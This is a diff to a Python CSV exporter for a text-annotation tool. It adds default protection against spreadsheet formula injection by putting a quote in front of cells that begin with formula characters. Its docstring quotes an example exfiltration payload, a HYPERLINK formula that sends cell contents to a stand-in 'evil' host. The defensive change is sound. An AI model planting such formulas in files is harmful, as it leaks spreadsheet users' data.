@@ -2,15 +2,26 @@
 
 UTF-8 with a byte-order mark, because spreadsheet programs otherwise guess a legacy encoding
 and mangle every accented name. Offsets are code points into the article's `text` column
-(which articles.csv carries), end exclusive, as everywhere in Framedesk. Cell contents are
-written exactly as stored, so the numbers and texts read back unchanged in pandas/R.
+(which articles.csv carries), end exclusive, as everywhere in Framedesk.
+
+Spreadsheet-safe by default: Excel and LibreOffice run a cell that starts with = + - or @
+as a formula, so a hostile headline such as `=HYPERLINK("http://evil/?"&A1)` would run when
+the analyst opens articles.csv. Every text cell that starts with = + - @, a tab, a carriage
+return, a line feed or a single quote gets one more single quote in front (`'=HYPERLINK...`),
+which spreadsheets show as text; numbers such as -2 or +1.5 are left alone. The rule is
+reversible: remove one leading ' from any text cell that has one and you have the stored
+value (pandas: `df[col].str.replace(r"^'", "", regex=True)`); offsets count from the
+stored text. `ExportOptions(extra={"spreadsheet_safe": False})` (CLI `--no-spreadsheet-safe`)
+writes every cell exactly as stored, for pandas and R; the JSONL export always keeps the
+raw values.
 """
 
 from __future__ import annotations
 
 import csv
 import json
-from collections.abc import Sequence
+import re
+from collections.abc import Callable, Sequence
 from pathlib import Path
 from typing import TYPE_CHECKING
 
@@ -32,8 +43,26 @@ ANNOTATION_FIELDS = ("article_id", "article_uid", "kind", "start", "end", "text"
                      "cue_text", "content_start", "content_end", "content_text",
                      "quote_type", "identification", "source_type", "certainty", "entity",
                      "unnamed")
-ENCODING = "utf-8-sig"
 LIST_SEPARATOR = ";"
+SPREADSHEET_SAFE = "spreadsheet_safe"  # key in ExportOptions.extra; absent means True
+# First characters after which a spreadsheet may read a cell as a formula; the quote itself
+# too, so that every cell starting with ' had one added (the rule can be undone).
+FORMULA_START = frozenset("=+-@\t\r\n'")
+_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
+BOM = "\ufeff"
+Cell = Callable[[str | None], str | None]
+_BUFFER = 1 << 20
+
+
+def spreadsheet_cell(value: str | None) -> str | None:
+    """`value`, with a single quote in front if a spreadsheet could run it as a formula."""
+    if value and value[0] in FORMULA_START and not _NUMBER.fullmatch(value):
+        return "'" + value
+    return value
+
+
+def _as_stored(value: str | None) -> str | None:
+    return value
 
 
 def write_csv(project: Project, ids: Sequence[int] | None, out: Path,
@@ -57,61 +86,76 @@ def write_csv(project: Project, ids: Sequence[int] | None, out: Path,
 
 def _write_pair(project: Project, ids: list[int], articles_path: Path, annotations_path: Path,
                 options: ExportOptions, progress: Progress) -> int:
+    cell = spreadsheet_cell if options.extra.get(SPREADSHEET_SAFE, True) else _as_stored
     n = 0
-    with open(articles_path, "w", encoding=ENCODING, newline="") as fa, \
-            open(annotations_path, "w", encoding=ENCODING, newline="") as fb:
+    # Plain UTF-8 plus a BOM written by hand: the same bytes as "utf-8-sig", without that
+    # codec's Python-level encoder running on every write.
+    with open(articles_path, "w", encoding="utf-8", newline="", buffering=_BUFFER) as fa, \
+            open(annotations_path, "w", encoding="utf-8", newline="", buffering=_BUFFER) as fb:
+        fa.write(BOM)
+        fb.write(BOM)
         wa = csv.writer(fa)
         wb = csv.writer(fb)
         wa.writerow(ARTICLE_FIELDS)
         wb.writerow(ANNOTATION_FIELDS)
         for rec in iter_records(project, ids, options, progress):
-            wa.writerow(article_row(rec))
-            wb.writerows(annotation_rows(rec))
+            wa.writerow(article_row(rec, cell))
+            wb.writerows(annotation_rows(rec, cell))
             n += 1
     return n
 
 
-def article_row(rec: ExportRecord) -> list[object]:
+def article_row(rec: ExportRecord, cell: Cell = _as_stored) -> list[object]:
+    """The articles.csv row; `cell` is applied to every text cell (spreadsheet_cell or not)."""
     a = rec.article
     extra = {k: v for k, v in a.extra.items() if k != INTEROP_KEY}
-    return [a.id, a.uid, a.title, a.outlet, a.url, a.author, a.published, a.language,
-            a.source_file, a.status, LIST_SEPARATOR.join(rec.primary_frames),
-            LIST_SEPARATOR.join(rec.secondary_frames), rec.tone, len(rec.mentions),
-            len(rec.cues), len(rec.attributions), rec.memo,
-            json.dumps(extra, ensure_ascii=False, sort_keys=True) if extra else "", a.text]
+    return [a.id, a.uid, cell(a.title), cell(a.outlet), cell(a.url), cell(a.author),
+            cell(a.published), cell(a.language), cell(a.source_file), cell(a.status),
+            cell(LIST_SEPARATOR.join(rec.primary_frames)),
+            cell(LIST_SEPARATOR.join(rec.secondary_frames)), cell(rec.tone),
+            len(rec.mentions), len(rec.cues), len(rec.attributions), cell(rec.memo),
+            json.dumps(extra, ensure_ascii=False, sort_keys=True) if extra else "",
+            cell(a.text)]
 
 
-def annotation_rows(rec: ExportRecord) -> list[list[object]]:
+def annotation_rows(rec: ExportRecord,
+                    cell: Cell = _as_stored) -> list[list[object]]:
+    """The annotations.csv rows of one article: entities, frame cues, attributions."""
     a = rec.article
     text = a.text
-    blank = [""] * 15
+    aid, uid = a.id, a.uid  # a hash of the text: never starts like a formula
+    blank = ("",) * 15
     rows: list[list[object]] = []
     for m in rec.mentions:
-        rows.append([a.id, a.uid, "entity", m.start, m.end, m.text, m.label, m.canonical or "",
-                     "", m.origin, m.status, "", *blank])
+        rows.append([aid, uid, "entity", m.start, m.end, cell(m.text), cell(m.label),
+                     cell(m.canonical), "", cell(m.origin), cell(m.status),
+                     "", *blank])
     for c in rec.cues:
-        rows.append([a.id, a.uid, "frame_cue", c.start, c.end, text[c.start:c.end], c.code, "",
-                     c.annotator, "", "", c.note or "", *blank])
+        rows.append([aid, uid, "frame_cue", c.start, c.end, cell(text[c.start:c.end]),
+                     cell(c.code), "", cell(c.annotator), "", "", cell(c.note), *blank])
     for t in rec.attributions:
         spans = [s for s in (t.source, t.cue, t.content) if s is not None]
-        start = min(s.start for s in spans)
-        end = max(s.end for s in spans)
-        rows.append([a.id, a.uid, "attribution", start, end, "", "", "", t.annotator or "",
-                     t.origin, t.status, "",
-                     *_part(t.source, text), *_part(t.cue, text), *_part(t.content, text),
-                     t.quote_type or "", t.identification or "", t.source_type or "",
-                     t.certainty or "", t.entity or "",
+        rows.append([aid, uid, "attribution", min(s.start for s in spans),
+                     max(s.end for s in spans), "", "", "", cell(t.annotator),
+                     cell(t.origin), cell(t.status), "",
+                     *_part(t.source, text, cell), *_part(t.cue, text, cell),
+                     *_part(t.content, text, cell),
+                     cell(t.quote_type), cell(t.identification),
+                     cell(t.source_type), cell(t.certainty), cell(t.entity),
                      json.dumps(t.unnamed, ensure_ascii=False, sort_keys=True) if t.unnamed
                      else ""])
     return rows
 
 
-def _part(span: Span | None, text: str) -> tuple[object, object, str]:
+def _part(span: Span | None, text: str,
+          cell: Cell) -> tuple[object, object, str]:
     if span is None:
         return ("", "", "")
-    return (span.start, span.end, text[span.start:span.end])
+    return (span.start, span.end, cell(text[span.start:span.end]))
 
 
 register_exporter(ExportFormat(
     name="csv", suffix="", write=write_csv,
-    description="articles.csv + annotations.csv (UTF-8 with BOM) for pandas, R, spreadsheets"))
+    description="articles.csv + annotations.csv (UTF-8 with BOM) for pandas, R, spreadsheets;"
+                " text cells starting with = + - @ get a leading ' so spreadsheets do not run"
+                " them as formulas"))
